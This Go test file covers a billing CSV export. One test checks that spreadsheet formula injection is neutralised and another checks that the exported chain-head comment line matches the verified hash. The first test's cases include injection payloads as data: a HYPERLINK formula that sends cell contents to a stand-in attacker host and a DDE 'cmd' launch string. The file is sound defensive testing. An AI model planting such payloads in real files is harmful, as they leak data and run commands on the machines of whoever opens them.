package attendance

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"testing"

	"iop/rooms"
)

// TestCSVFormulaNeutralised: display names, room ids and person ids that a
// spreadsheet would run as formulas reach the billing CSV with a leading
// single quote (OWASP), while dates, times and seconds read as before.
func TestCSVFormulaNeutralised(t *testing.T) {
	ctx := context.Background()
	ny := newYork(t)
	st, program, clk := newStore(t, Options{})
	clk.Set(at(ny, 2026, 10, 30, 12, 0, 0))
	cases := []struct{ sub, name, room string }{
		{"c1", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "=room"},
		{"c2", "+1+cmd|' /C calc'!A0", "+room"},
		{"-c3", "-2+3", "-room"},
		{"c4", "@SUM(A1:A9)", "@room"},
		{"c5", "\t=1+1", "\troom"},
		{"c6", "\r=1+1", "\rroom"},
		{"c7", "Alex", "eve-1"}, // ordinary text is untouched
	}
	for i, c := range cases {
		seg := fmt.Sprintf("s%d", i)
		start := at(ny, 2026, 10, 27, 18, i, 0)
		appendAll(t, st, []Event{
			{ID: seg + "a", Kind: KindAdmit, Program: program, Segment: seg, Room: c.room, RoomKind: rooms.KindGroup, Title: "=title",
				Sub: c.sub, Name: c.name, Role: rooms.RoleClient, At: start, Audio: true},
			{ID: seg + "l", Kind: KindLeave, Program: program, Segment: seg, At: start.Add(3600e9), Reason: rooms.ReasonLeft},
		})
	}
	var buf bytes.Buffer
	if err := st.ExportWeek(ctx, &buf, program, Week{Year: 2026, Num: 44}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.Comment = '#' // the chain head line
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(cases)+1 {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(cases))
	}
	for i, c := range cases {
		r := recs[i+1]
		want := map[int]string{0: c.sub, 1: c.name, 3: c.room}
		if c.name != "Alex" {
			want[1] = "'" + c.name
			want[3] = "'" + c.room
		}
		if c.sub[0] == '-' {
			want[0] = "'" + c.sub
		}
		for col, w := range want {
			if r[col] != w {
				t.Errorf("row %d, column %s: %q, want %q", i+1, recs[0][col], r[col], w)
			}
		}
		for col, cell := range r {
			if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
				t.Errorf("row %d, column %s starts a formula: %q", i+1, recs[0][col], cell)
			}
		}
		if r[10] != "3600" || r[5] != "2026-10-27" {
			t.Errorf("row %d: seconds %q and date %q, want 3600 and 2026-10-27 unquoted", i+1, r[10], r[5])
		}
	}
}

// TestCSVChainHead (issue 14, finding 8): the billing CSV ends with the
// chain head its rows were read at, as a comment line with the header's
// columns: a plain CSV reader reads it as a last row, one that knows
// comments skips it.
func TestCSVChainHead(t *testing.T) {
	ctx := context.Background()
	ny := newYork(t)
	st, program, _ := newStore(t, Options{Key: testKey})
	appendAll(t, st, scenario(program, ny))
	var buf bytes.Buffer
	if err := st.ExportWeek(ctx, &buf, program, Week{Year: 2026, Num: 44}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	h, err := st.Head(ctx, program)
	if err != nil {
		t.Fatal(err)
	}
	last := recs[len(recs)-1]
	want := CSVHeadPrefix + "chain " + program + " seq " + fmt.Sprint(h.Seq) + " hash " + h.Hash + " key " + h.Key
	if last[0] != want || len(last) != len(recs[0]) || h.Seq == 0 || h.Key == "" {
		t.Errorf("last line %q, want %q and %d columns", last, want, len(recs[0]))
	}
	commented := csv.NewReader(bytes.NewReader(buf.Bytes()))
	commented.Comment = '#'
	rows, err := commented.ReadAll()
	if err != nil || len(rows) != len(recs)-1 {
		t.Errorf("a reader that skips comments: %d records, %v; want %d", len(rows), err, len(recs)-1)
	}
	v, err := st.Verify(ctx, program)
	if err != nil || v.Head != h.Hash || v.Seq != h.Seq {
		t.Errorf("the exported head is not the one verify checks: %+v, %v", v, err)
	}
}
